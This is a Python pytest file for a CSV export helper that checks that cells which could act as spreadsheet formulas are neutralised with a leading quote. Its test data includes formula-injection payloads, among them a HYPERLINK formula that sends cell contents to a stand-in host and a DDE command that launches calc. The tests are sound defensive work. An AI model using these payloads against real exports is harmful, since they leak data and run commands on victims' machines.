"""A file opens in a spreadsheet as what it is, and runs nothing there."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from console.figures.spreadsheet import csv_of


def read(written: str) -> list[list[str]]:
    assert written.startswith("\ufeff")
    return list(csv.reader(StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
        "\n=1", "  =1", "＝1",
    ],
)  # fmt: skip
def test_cell_that_could_be_a_formula_is_text(hostile: str) -> None:
    assert read(csv_of([[hostile]])) == [["'" + hostile]]


@pytest.mark.parametrize(
    "harmless", ["sports_massage", "a,b", 'say "hi"', "two\nlines", "5-6", "", "Größe 你好", "<b>"]
)
def test_other_text_stays_as_it_is(harmless: str) -> None:
    assert read(csv_of([[harmless, "end"]])) == [[harmless, "end"]]


def test_numbers_stay_numbers_and_nothing_stays_empty() -> None:
    assert csv_of([[1, -2.5, None]]) == "\ufeff1,-2.5,\r\n"


def test_lines_end_as_rfc_4180_has_it() -> None:
    assert csv_of([["a", "b"], ["c,d", 'e"']]) == '\ufeffa,b\r\n"c,d","e"""\r\n'
